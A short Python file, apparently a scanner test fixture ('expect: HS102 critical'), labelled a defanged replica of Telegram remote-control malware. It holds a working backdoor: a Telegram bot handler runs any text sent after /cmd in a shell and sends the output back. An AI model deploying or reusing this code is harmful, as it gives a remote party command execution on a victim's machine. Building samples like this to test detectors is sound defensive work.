# Defanged replica of the Telegram remote-control packages: whatever the
# bot's owner types after /cmd runs in a shell on the victim's machine and
# the output is sent back. The token is read from the environment here.
import os
import subprocess

import telebot

bot = telebot.TeleBot(os.environ.get("BOT_TOKEN", "0:stub"))


@bot.message_handler(commands=["cmd"])
def run(message):
    out = subprocess.check_output(message.text[5:], shell=True)  # expect: HS102 critical
    bot.reply_to(message, out[:4000])
